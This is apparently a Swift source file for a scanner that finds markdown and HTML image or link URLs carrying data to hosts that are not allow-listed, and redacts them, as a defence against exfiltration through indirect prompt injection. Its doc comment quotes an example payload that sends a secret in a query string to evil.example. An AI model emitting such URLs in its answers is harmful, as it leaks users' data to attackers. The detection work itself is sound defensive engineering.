import Foundation

/// Markdown-image and link exfiltration: an answer that makes the client fetch a URL carrying data
/// (`![x](https://evil.example/p?d=SECRET)`), the classic indirect prompt-injection payload.
public struct ExfiltrationScanner: Scanner, @unchecked Sendable {
    // @unchecked: NSRegularExpression is immutable after creation.
    /// Registry name.
    public let name = "exfiltration"
    /// Any suspicious URL is a positive.
    public let defaultThreshold = 0.5
    let allowedHosts: Set<String>
    private let patterns: [(regex: NSRegularExpression, type: String, needsData: Bool)]

    /// Flags images and links to hosts outside `allowedHosts` that carry a query string or a long path.
    public init(allowedHosts: [String] = []) {
        self.allowedHosts = Set(allowedHosts.map { $0.lowercased() })
        // Literal patterns: the tests check that all compile.
        let sources: [(String, String, Bool)] = [
            (#"!\[[^\]]*\]\(\s*<?(https?://[^)\s>]+)"#, "markdown_image", false),
            (#"(?i)<img[^>]+src\s*=\s*["']?(https?://[^"'\s>]+)"#, "html_image", false),
            (#"(?<!!)\[[^\]]*\]\(\s*<?(https?://[^)\s>]+)"#, "markdown_link", true),
        ]
        patterns = sources.compactMap { pattern, type, needsData in
            (try? NSRegularExpression(pattern: pattern)).map { ($0, type, needsData) }
        }
    }

    /// Finds data-carrying image URLs (always suspicious: they load without a click) and links with data.
    public func scan(_ input: ScanInput) throws -> ScanResult {
        let text = input.text
        // Every pattern needs a literal "://" (case folding cannot make one): most answers have none, and the
        // byte search costs far less than three regex passes (~12 µs of a gateway request's CPU in a profile).
        guard Self.mayContainURL(text) else { return ScanResult(score: 0, findings: [], sanitized: nil) }
        let range = NSRange(location: 0, length: (text as NSString).length)
        var findings: [Finding] = []
        for (regex, type, needsData) in patterns {
            for match in regex.matches(in: text, range: range) {
                guard let urlRange = Range(match.range(at: 1), in: text), let whole = Range(match.range, in: text) else { continue }
                let url = String(text[urlRange])
                guard let components = URLComponents(string: url), let host = components.host?.lowercased(),
                      !allowedHosts.contains(host) else { continue }
                let carriesData = (components.query?.count ?? 0) >= 8 || components.path.count >= 48
                if needsData && !carriesData { continue }
                findings.append(Finding(start: scalarOffset(text, whole.lowerBound), end: scalarOffset(text, whole.upperBound), type: type))
            }
        }
        return ScanResult(score: findings.isEmpty ? 0 : 1, findings: findings,
                          sanitized: findings.isEmpty ? nil : Redaction.apply(findings, to: text))
    }

    /// Whether `text` contains "://" anywhere.
    static func mayContainURL(_ text: String) -> Bool {
        var previous: (UInt8, UInt8) = (0, 0)
        for byte in text.utf8 {
            if byte == UInt8(ascii: "/"), previous == (UInt8(ascii: ":"), UInt8(ascii: "/")) { return true }
            previous = (previous.1, byte)
        }
        return false
    }

    private func scalarOffset(_ text: String, _ index: String.Index) -> Int {
        text.unicodeScalars.distance(from: text.startIndex, to: index)
    }
}
